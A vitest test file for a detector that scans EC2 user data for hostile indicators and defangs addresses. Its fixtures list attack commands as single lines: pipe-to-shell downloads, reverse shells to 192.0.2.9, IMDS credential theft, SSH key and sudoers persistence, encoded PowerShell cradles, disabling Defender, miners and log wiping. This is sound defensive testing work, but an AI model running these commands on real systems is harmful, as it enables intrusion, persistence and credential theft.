import { describe, expect, it } from 'vitest';
import { decodeUserData } from '@/lib/payload/decode-payload';

const find = (text: string) => decodeUserData(new TextEncoder().encode(text)).indicators;
const kinds = (line: string) => new Set(find(`#!/bin/sh\n${line}\n`).map(({ kind }) => kind));

describe.each([
  [
    'pipe-to-shell',
    [
      'curl -fsSL https://files.example.com/a | sudo bash',
      'wget -qO- files.example.com/a|sh',
      'bash <(curl -s https://a.example.com)',
      'bash -c "$(curl -s https://a.example.com)"',
    ],
  ],
  ['remote-fetch', ['aws s3 cp s3://bucket/a /tmp/a', 'curl http://192.0.2.9/x']],
  ['imds', ['curl http://169.254.169.254/latest/meta-data/iam/security-credentials/']],
  ['authorized-keys', ['echo ssh-rsa AAAA >> ~/.ssh/authorized_keys']],
  ['sudoers', ['echo "x ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers.d/x']],
  [
    'cron',
    ['(crontab -l; echo "* * * * * /tmp/a") | crontab -', 'cp a /etc/cron.d/a', 'schtasks /create /tn a'],
  ],
  ['reverse-shell', ['bash -i >& /dev/tcp/192.0.2.9/443 0>&1', 'nc 192.0.2.9 443 -e /bin/sh']],
  ['base64-decode', ['echo aWQ= | base64 -d | sh', 'base64 --decode a']],
  [
    'encoded-powershell',
    ['powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0A', 'pwsh -e SQBFAFgAIAAoAE4AZQB3AC0A'],
  ],
  ['iex', ["IEX (New-Object Net.WebClient).DownloadString('http://a.example.com')"]],
  [
    'defender-off',
    ['Set-MpPreference -DisableRealtimeMonitoring $true', 'Add-MpPreference -ExclusionPath C:\\'],
  ],
  ['miner', ['./xmrig -o stratum+tcp://pool.example.com:3333', 'chmod +x xmrig']],
  ['agent-stopped', ['systemctl stop amazon-ssm-agent', 'service auditd stop']],
  ['anti-forensics', ['unset HISTFILE; history -c', 'rm -rf /var/log/secure']],
  ['user-added', ['useradd -o -u 0 helper', 'net user helper P4ss /add']],
  ['runs-every-boot', ['bootcmd:']],
])('%s', (kind, lines) => {
  it.each(lines)('is found in %s', (line) => {
    expect(kinds(line)).toContain(kind);
  });
});

it.each([
  'grep -e averylongpatternindeed file',
  'echo done > /tmp/log',
  'systemctl start amazon-ssm-agent',
  'yum install -y httpd',
  'shutdown -h now',
  'echo ecs >> /etc/ecs/ecs.config',
])('finds nothing in %s', (line) => {
  expect(kinds(line)).toEqual(new Set());
});

it('counts lines from 1 within the part and names the part', () => {
  const text =
    'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=x\n\n--x\nContent-Type: text/x-shellscript\n\n#!/bin/sh\nls\n--x\nContent-Type: text/cloud-boothook\n\n#!/bin/sh\n\ncurl http://192.0.2.9/a | sh\n--x--\n';
  expect(find(text)).toContainEqual(expect.objectContaining({ kind: 'pipe-to-shell', part: '2', line: 3 }));
});

it('leaves tasks of EC2Launch v2 that carry no command alone, though they are applied at every boot', () => {
  expect(find('version: 1.0\ntasks:\n- task: startSsm\n')).toEqual([]);
  const program = '- task: executeProgram\n  inputs:\n  - frequency: always\n    path: C:\\a.exe\n';
  expect(find(`version: 1.0\ntasks:\n${program}`).map(({ kind }) => kind)).toEqual(['runs-every-boot']);
});

it('defangs addresses and masks keys wherever they stand', () => {
  const found = find(
    '#!/bin/sh\ncurl http://files.example.com/a?k=AKIAIOSFODNN7EXAMPLE | sh\nexport AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI0K7MDENG0bPxRfiCYEXAMPLEKEY\n',
  );
  const values = found.map(({ value }) => value).join('\n');
  expect(values).toContain('hxxp://files[.]example[.]com/a');
  expect(values).toContain('AKIA…MPLE');
  expect(values).not.toContain('http://');
  expect(values).not.toContain('AKIAIOSFODNN7EXAMPLE');
  expect(values).not.toContain('wJalrXUtnFEMI0K7MDENG0bPxRfiCYEXAMPLEKEY');
});

it('lists at most 500 and says so', () => {
  const decoded = decodeUserData(
    new TextEncoder().encode(
      `#!/bin/sh\n${Array.from({ length: 600 }, (_, index) => `curl http://192.0.2.9/${index}`).join('\n')}\n`,
    ),
  );
  expect(decoded.indicators).toHaveLength(500);
  expect(decoded.bounds.map(({ bound }) => bound)).toEqual(['indicators']);
});
